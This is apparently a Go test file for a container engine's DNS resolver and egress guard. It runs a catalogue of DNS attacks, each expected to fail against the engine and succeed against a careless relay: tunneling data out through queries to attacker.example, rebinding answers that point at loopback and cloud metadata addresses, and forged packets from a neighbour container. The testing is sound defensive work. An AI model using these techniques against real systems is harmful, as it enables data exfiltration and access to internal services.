package net

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/bulkhead-engine/bulkhead/internal/network"
	"github.com/bulkhead-engine/bulkhead/internal/network/egress"
	"github.com/bulkhead-engine/bulkhead/internal/network/resolver"
	"golang.org/x/net/dns/dnsmessage"
)

// names are the DNS of a world: the resolvers of three containers, and the server outside that they ask, which the attacker owns and which remembers all that reaches it.
type names struct {
	*world
	server netip.AddrPort
	ports  map[string]uint16 // of the resolvers in their containers

	mu    sync.Mutex
	heard []byte
	say   func(m *dnsmessage.Message) // the answer to everything
}

// newNames starts resolvers in held, which may ask for name.example alone, and in mate, evil and inner, which has no way out. The containers were careless enough to take packets from and to
// loopback addresses by their device.
func newNames(t *testing.T, careless bool) *names {
	n := &names{world: newWorld(t, careless), ports: map[string]uint16{}}
	n.listen()
	for _, name := range []string{"held", "mate", "inner"} {
		e := n.ends[name]
		for _, i := range []string{"all", "eth0"} {
			e.Sysctl("ipv4/conf/"+i+"/route_localnet", "1")
			e.Sysctl("ipv4/conf/"+i+"/rp_filter", "0")
		}
		if careless {
			n.relay(e)
			continue
		}
		table := &resolver.Table{Out: e.at.Network.Outside}
		table.Network(e.at.Network.Name, e.at.Network.Subnets[0].Prefix)
		guard := egress.New(nil)
		guard.Set([]network.Attached{e.at}, 0)
		s, err := resolver.Start(e.FD(), resolver.Config{Names: table, Policy: hostGuard{guard, n}, Servers: []netip.AddrPort{n.server}, Conf: "/nonexistent", Options: []string{"timeout:30"}})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(s.Close)
		n.ports[name] = s.Port()
	}
	return n
}

// A hostGuard learns on the host of the world.
type hostGuard struct {
	*egress.Guard
	n *names
}

func (g hostGuard) Learn(name string, addrs []netip.Addr, lasts time.Duration) (err error) {
	g.n.host.Do(func() { err = g.Guard.Learn(name, addrs, lasts) })
	return err
}

// listen is the server outside.
func (n *names) listen() {
	c, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		n.Fatal(err)
	}
	n.server = netip.MustParseAddrPort(c.LocalAddr().String())
	n.Cleanup(func() { c.Close() })
	go func() {
		b := make([]byte, 65535)
		for {
			size, from, err := c.ReadFrom(b)
			if err != nil {
				return
			}
			n.mu.Lock()
			n.heard = append(n.heard, b[:size]...)
			say := n.say
			n.mu.Unlock()
			var p dnsmessage.Parser
			h, err := p.Start(b[:size])
			if err != nil {
				continue
			}
			q, err := p.Question()
			if err != nil {
				continue
			}
			m := dnsmessage.Message{Header: dnsmessage.Header{ID: h.ID, Response: true, RecursionAvailable: true}, Questions: []dnsmessage.Question{q}}
			if say != nil {
				say(&m)
			}
			if out, err := m.Pack(); err == nil {
				_, _ = c.WriteTo(out, from)
			}
		}
	}()
}

// got reports whether the server outside has heard something, however it is spelled.
func (n *names) got(what string) bool {
	n.mu.Lock()
	defer n.mu.Unlock()
	return bytes.Contains(bytes.ToLower(n.heard), []byte(strings.ToLower(what)))
}

// relay is a resolver as somebody careless has it: on all its addresses, passing on what comes as it comes.
func (n *names) relay(e *end) {
	n.ports[e.name] = 53
	n.relayAt(e, "127.0.0.11:53")
	n.relayAt(e, netip.AddrPortFrom(e.ip4, 53).String())
}

func (n *names) relayAt(e *end, at string) {
	e.Do(func() {
		c, err := net.ListenPacket("udp4", at)
		if err != nil {
			n.Error(err)
			return
		}
		l, err := net.Listen("tcp4", at)
		if err != nil {
			n.Error(err)
			return
		}
		n.Cleanup(func() { c.Close(); l.Close() })
		go func() {
			b := make([]byte, 65535)
			for {
				size, from, err := c.ReadFrom(b)
				if err != nil {
					return
				}
				if out := n.pass(b[:size]); out != nil {
					_, _ = c.WriteTo(out, from)
				}
			}
		}()
		go func() {
			for {
				s, err := l.Accept()
				if err != nil {
					return
				}
				var head [2]byte
				if _, err := io.ReadFull(s, head[:]); err == nil {
					b := make([]byte, binary.BigEndian.Uint16(head[:]))
					if _, err := io.ReadFull(s, b); err == nil {
						out := n.pass(b)
						_, _ = s.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(out))), out...))
					}
				}
				s.Close()
			}
		}()
	})
}

func (n *names) pass(query []byte) []byte {
	c, err := net.Dial("udp", n.server.String())
	if err != nil {
		return nil
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	_, _ = c.Write(query)
	b := make([]byte, 65535)
	size, err := c.Read(b)
	if err != nil {
		return nil
	}
	return b[:size]
}

// ask asks a container's resolver from inside; nil: there was no answer.
func (n *names) ask(from, network string, query []byte) []byte {
	n.Helper()
	var c net.Conn
	var err error
	n.ends[from].Do(func() { c, err = net.DialTimeout(network, "127.0.0.11:53", patience) })
	if err != nil {
		n.Error(err)
		return nil
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	if network == "tcp" {
		query = append(binary.BigEndian.AppendUint16(nil, uint16(len(query))), query...)
	}
	if _, err := c.Write(query); err != nil {
		return nil
	}
	b := make([]byte, 65535)
	size, err := c.Read(b)
	if err != nil {
		return nil
	}
	return b[:size]
}

func question(name string, typ dnsmessage.Type, edit ...func(*dnsmessage.Message)) []byte {
	m := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: 7, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: typ, Class: dnsmessage.ClassINET}},
	}
	for _, f := range edit {
		f(&m)
	}
	b, err := m.Pack()
	if err != nil {
		panic(err)
	}
	return b
}

// A trick is one way by names. It reports whether it got through.
type trick struct {
	name string
	try  func(n *names, mark string) bool
}

// leaks are ways to tell somebody outside something that a container may not tell.
func leaks() []trick {
	tell := func(name, from, network string, query func(mark string) []byte) trick {
		return trick{"tunnel: " + name, func(n *names, mark string) bool {
			n.ask(from, network, query(mark))
			return n.got(mark)
		}}
	}
	text := func(name string, typ dnsmessage.Type) func(mark string) []byte {
		return func(mark string) []byte { return question(fmt.Sprintf(name, mark), typ) }
	}
	return []trick{
		tell("a name that is not allowed", "held", "udp", text("%s.attacker.example.", dnsmessage.TypeA)),
		tell("by TCP", "held", "tcp", text("%s.attacker.example.", dnsmessage.TypeTXT)),
		tell("below a name that is allowed", "held", "udp", text("%s.name.example.", dnsmessage.TypeTXT)),
		tell("a name that begins like one that is allowed", "held", "udp", text("name.example.%s.attacker.example.", dnsmessage.TypeTXT)),
		tell("a service", "held", "udp", text("_%s._tcp.name.example.", dnsmessage.TypeSRV)),
		tell("the reverse zone of an address", "held", "udp", text("%s.113.0.203.in-addr.arpa.", dnsmessage.TypePTR)),
		tell("another class", "held", "udp", func(mark string) []byte {
			return question(mark+".bind.", dnsmessage.TypeTXT, func(m *dnsmessage.Message) { m.Questions[0].Class = dnsmessage.ClassCHAOS })
		}),
		tell("an option of EDNS", "held", "udp", func(mark string) []byte {
			return question("name.example.", dnsmessage.TypeA, func(m *dnsmessage.Message) {
				m.Additionals = []dnsmessage.Resource{{Header: dnsmessage.ResourceHeader{Name: dnsmessage.MustNewName("."), Type: dnsmessage.TypeOPT, Class: 1232}, Body: &dnsmessage.OPTResource{Options: []dnsmessage.Option{{Code: 65001, Data: []byte(mark)}}}}}
			})
		}),
		tell("another record in the query", "held", "udp", func(mark string) []byte {
			return question("name.example.", dnsmessage.TypeA, func(m *dnsmessage.Message) {
				m.Additionals = []dnsmessage.Resource{{Header: dnsmessage.ResourceHeader{Name: dnsmessage.MustNewName("x."), Type: dnsmessage.TypeTXT, Class: dnsmessage.ClassINET}, Body: &dnsmessage.TXTResource{TXT: []string{mark}}}}
			})
		}),
		tell("bytes behind the query", "held", "udp", func(mark string) []byte { return append(question("name.example.", dnsmessage.TypeA), mark...) }),
		tell("a second question", "held", "udp", func(mark string) []byte {
			return question("name.example.", dnsmessage.TypeA, func(m *dnsmessage.Message) {
				m.Questions = append(m.Questions, dnsmessage.Question{Name: dnsmessage.MustNewName(mark + ".example."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET})
			})
		}),
		{"tunnel: the letters of a name that is allowed", func(n *names, _ string) bool {
			n.ask("held", "udp", question("nAmE.eXaMpLe.", dnsmessage.TypeA))
			n.mu.Lock()
			defer n.mu.Unlock()
			return bytes.Contains(n.heard, []byte("nAmE"))
		}},
		tell("the name of a neighbour that is not there", "mate", "udp", text("%s.", dnsmessage.TypeA)),
		tell("a name below .onion", "mate", "udp", text("%s.onion.", dnsmessage.TypeA)),
		{"tunnel: an address of its network", func(n *names, _ string) bool {
			n.ask("mate", "udp", question("99.2.9.10.in-addr.arpa.", dnsmessage.TypePTR))
			return n.got("\x0299\x012\x019\x0210\x07in-addr")
		}},
		tell("out of an internal network", "inner", "udp", text("%s.attacker.example.", dnsmessage.TypeA)),
	}
}

// bindings are answers that lead a container where it may not go.
func bindings() []trick {
	resource := func(name string, body dnsmessage.ResourceBody) dnsmessage.Resource {
		h := dnsmessage.ResourceHeader{Name: dnsmessage.MustNewName(name), Class: dnsmessage.ClassINET, TTL: 1}
		switch body.(type) {
		case *dnsmessage.AResource:
			h.Type = dnsmessage.TypeA
		case *dnsmessage.AAAAResource:
			h.Type = dnsmessage.TypeAAAA
		case *dnsmessage.CNAMEResource:
			h.Type = dnsmessage.TypeCNAME
		}
		return dnsmessage.Resource{Header: h, Body: body}
	}
	body := func(text string) dnsmessage.ResourceBody {
		a := addr(text)
		if a.Is4() {
			return &dnsmessage.AResource{A: a.As4()}
		}
		return &dnsmessage.AAAAResource{AAAA: a.As16()}
	}
	answer := func(name, text string, say func(m *dnsmessage.Message)) trick {
		return trick{"rebinding: " + name, func(n *names, _ string) bool {
			n.mu.Lock()
			n.say = say
			n.mu.Unlock()
			typ := dnsmessage.TypeA
			if addr(text).Is6() {
				typ = dnsmessage.TypeAAAA
			}
			var m dnsmessage.Message
			if err := m.Unpack(n.ask("held", "udp", question("name.example.", typ))); err != nil {
				n.Error(err)
			}
			return slices.ContainsFunc(slices.Concat(m.Answers, m.Additionals), func(r dnsmessage.Resource) bool {
				switch b := r.Body.(type) {
				case *dnsmessage.AResource:
					return netip.AddrFrom4(b.A) == addr(text)
				case *dnsmessage.AAAAResource:
					return netip.AddrFrom16(b.AAAA) == addr(text)
				}
				return false
			})
		}}
	}
	plain := func(name, text string) trick {
		return answer(name, text, func(m *dnsmessage.Message) {
			m.Answers = []dnsmessage.Resource{resource("name.example.", body("203.0.113.2")), resource("name.example.", body(text))}
		})
	}
	return []trick{
		plain("loopback", "127.0.0.1"), plain("loopback, IPv6", "::1"), plain("nobody's address, which is this machine", "0.0.0.0"),
		plain("metadata", "169.254.169.254"), plain("metadata of Amazon, IPv6", "fd00:ec2::254"), plain("metadata of Alibaba", "100.100.100.200"),
		plain("metadata, mapped", "::ffff:169.254.169.254"), plain("metadata by NAT64", "64:ff9b::a9fe:a9fe"), plain("metadata by 6to4", "2002:a9fe:a9fe::1"),
		plain("a link-local address", "fe80::1"), plain("the gateway", "10.9.1.1"), plain("a neighbour", "10.9.1.2"),
		answer("by an alias", "169.254.169.254", func(m *dnsmessage.Message) {
			m.Answers = []dnsmessage.Resource{resource("name.example.", &dnsmessage.CNAMEResource{CNAME: dnsmessage.MustNewName("x.attacker.example.")}), resource("x.attacker.example.", body("169.254.169.254"))}
		}),
		answer("beside the answer", "169.254.169.254", func(m *dnsmessage.Message) {
			m.Answers = []dnsmessage.Resource{resource("name.example.", body("203.0.113.2"))}
			m.Additionals = []dnsmessage.Resource{resource("name.example.", body("169.254.169.254"))}
		}),
		{"learning: an address that only stands beside the answer", func(n *names, _ string) bool {
			n.mu.Lock()
			n.say = func(m *dnsmessage.Message) {
				m.Answers = []dnsmessage.Resource{resource("name.example.", body("203.0.113.2")), resource("other.example.", body("203.0.113.3"))}
				m.Additionals = []dnsmessage.Resource{resource("name.example.", body("203.0.113.3"))}
			}
			n.mu.Unlock()
			n.ask("held", "udp", question("name.example.", dnsmessage.TypeA))
			a := attack{from: "held", at: []string{"lan"}, frames: func(_ *world, e *end, mark []byte) [][]byte {
				return by(e, udp(e.ip4, addr("203.0.113.3"), 1000, 443, mark))
			}}
			within := denied
			if n.careless {
				within = patience
			}
			return a.try(n.world, within)
		}},
	}
}

// strangers are ways of somebody else into a container's resolver, or to be taken for it.
func strangers() []trick {
	query := func(mark string) []byte { return question(mark+".attacker.example.", dnsmessage.TypeA) }
	come := func(name string, frame func(n *names, port uint16, payload []byte) func()) trick {
		return trick{"stranger: " + name, func(n *names, mark string) bool {
			send := frame(n, n.ports["mate"], query(mark))
			within := denied
			if n.careless {
				within = patience
			}
			for end := time.Now().Add(within); time.Now().Before(end) && !n.got(mark); time.Sleep(gap) {
				send()
			}
			return n.got(mark)
		}}
	}
	return []trick{
		come("the resolver of a neighbour, by its loopback address", func(n *names, port uint16, payload []byte) func() {
			evil, mate := n.ends["evil"], n.ends["mate"]
			return func() { evil.send(udp(evil.ip4, addr("127.0.0.11"), 5353, port, payload).frame(mate.mac, evil.mac)) }
		}),
		come("the resolver of a neighbour, by the neighbour's address", func(n *names, port uint16, payload []byte) func() {
			evil, mate := n.ends["evil"], n.ends["mate"]
			return func() { evil.send(udp(evil.ip4, mate.ip4, 5353, port, payload).frame(mate.mac, evil.mac)) }
		}),
		come("the resolver of a container, from another host", func(n *names, port uint16, payload []byte) func() {
			return func() {
				n.sendLAN(udp(addr("192.0.2.2"), n.ends["mate"].ip4, 5353, port, payload).frame(n.hostMAC, n.lanMAC))
			}
		}),
		{"stranger: a forged answer from a neighbour", func(n *names, mark string) bool {
			evil, mate := n.ends["evil"], n.ends["mate"]
			var c net.Conn
			var err error
			mate.Do(func() { c, err = net.Dial("udp", "127.0.0.11:53") })
			if err != nil {
				n.Fatal(err)
			}
			defer c.Close()
			// The attacker knows everything that there is to guess: the port, and the id. Without an address of the loopback device in the container the packet goes to that of eth0.
			port := uint16(c.LocalAddr().(*net.UDPAddr).Port)
			within := denied
			if n.careless {
				within = patience
			}
			b := make([]byte, 2048)
			for end := time.Now().Add(within); time.Now().Before(end); {
				evil.send(udp(addr("127.0.0.11"), c.LocalAddr().(*net.UDPAddr).AddrPort().Addr(), 53, port, []byte(mark)).frame(mate.mac, evil.mac))
				_ = c.SetReadDeadline(time.Now().Add(gap))
				if size, err := c.Read(b); err == nil && bytes.Contains(b[:size], []byte(mark)) {
					return true
				}
			}
			return false
		}},
	}
}

// TestNames tries each way by names in both worlds.
func TestNames(t *testing.T) {
	for _, careless := range []bool{true, false} {
		name := "engine"
		if careless {
			name = "careless"
		}
		t.Run(name, func(t *testing.T) {
			n := newNames(t, careless)
			for _, list := range [][]trick{leaks(), bindings(), strangers()} {
				for _, a := range list {
					t.Run(a.name, func(t *testing.T) {
						mark := strings.ToLower(string(newMark()))
						if got := a.try(n, mark); got != careless {
							t.Errorf("got through: %v; want %v", got, careless)
						}
					})
				}
			}
			// What is allowed works: else nothing above says anything.
			n.mu.Lock()
			n.say = func(m *dnsmessage.Message) {
				m.Answers = []dnsmessage.Resource{{Header: dnsmessage.ResourceHeader{Name: m.Questions[0].Name, Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET, TTL: 60}, Body: &dnsmessage.AResource{A: [4]byte{203, 0, 113, 3}}}}
			}
			n.mu.Unlock()
			if got := n.ask("held", "udp", question("name.example.", dnsmessage.TypeA)); !bytes.Contains(got, addr("203.0.113.3").AsSlice()) {
				t.Errorf("a name that is allowed: %x", got)
			}
			a := attack{from: "held", at: []string{"lan"}, frames: func(_ *world, e *end, mark []byte) [][]byte {
				return by(e, udp(e.ip4, addr("203.0.113.3"), 1001, 443, mark))
			}}
			if !a.try(n.world, patience) {
				t.Error("an address that was learned is closed")
			}
		})
	}
}
